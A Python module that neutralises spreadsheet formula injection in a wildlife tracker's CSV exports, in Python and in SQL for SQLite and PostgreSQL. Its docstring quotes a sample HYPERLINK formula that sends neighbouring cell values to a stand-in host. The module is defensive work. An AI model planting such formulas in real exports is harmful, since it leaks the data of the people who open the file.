"""Spreadsheet formula injection: no exported CSV cell starts a formula.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return) as a formula: a photo tag `Species|=HYPERLINK("http://x/?"&A2, "open")` would
become a live link that sends its neighbours' values away. As OWASP recommends, such a cell is
written with a single quote in front, which spreadsheets show as text (and do not run). A number
(a sign followed only by digits and decimal points, such as -12.5) is left as it is.

Every CSV the tracker writes goes through this rule, in any format, public or not: `cell` and
`row` for rows built in Python (effort, Camtrap DP's tables), `safe_text` for the columns the
database writes in the large CSVs, so a million-row export stays one SQL statement. A column of
a small lookup table (station names, species names, individual codes, e-mail addresses) is
checked once per export by `checked`: where none of its values would change, the export reads it
as it is rather than testing every one of a million rows.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from sqlalchemy import ColumnElement, String, select
from sqlalchemy.ext.compiler import compiles
from sqlalchemy.orm import Session
from sqlalchemy.sql.functions import FunctionElement

TRIGGERS = frozenset("=+-@\t\r")
NUMBER = re.compile(r"[-+][0-9.]*[0-9][0-9.]*")  # what may start with a sign and stay as it is


def cell(value):
    """The value as a CSV cell no spreadsheet runs as a formula."""
    if isinstance(value, str) and value and value[0] in TRIGGERS and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: Iterable) -> list:
    return [cell(value) for value in values]


class safe_text(FunctionElement):
    """`cell` in SQL, for a text column of a CSV the database writes."""

    type = String()
    inherit_cache = True
    name = "safe_text"


@compiles(safe_text, "sqlite")
def _safe_text_sqlite(element, compiler, **kw):
    # unicode() reads the first character as a number: no string is made for the cells that
    # pass, which is nearly all of them. A sign followed only by digits and points is a number.
    x = compiler.process(element.clauses.clauses[0], **kw)
    rest = f"substr({x}, 2)"
    number = f"({x} GLOB '[-+]*' AND {rest} GLOB '*[0-9]*' AND {rest} NOT GLOB '*[^0-9.]*')"
    trigger = f"unicode({x}) IN (9, 13, 43, 45, 61, 64) AND NOT {number}"
    return f"CASE WHEN {trigger} THEN '''' || {x} ELSE {x} END"


@compiles(safe_text, "postgresql")
def _safe_text_postgresql(element, compiler, **kw):
    x = compiler.process(element.clauses.clauses[0], **kw)
    starts = "'^[-+=@' || chr(9) || chr(13) || ']'"
    trigger = f"{x} ~ ({starts}) AND {x} !~ '^[-+][0-9.]*[0-9][0-9.]*$'"
    return f"CASE WHEN {trigger} THEN '''' || {x} ELSE {x} END"


def checked(session: Session, column: ColumnElement) -> ColumnElement:
    """A lookup table's text column as it is if none of its values starts a formula, else
    wrapped in `safe_text`: one small query per export instead of a test on every row."""
    risky = select(column).where(safe_text(column) != column).limit(1)
    return safe_text(column) if session.execute(risky).first() else column
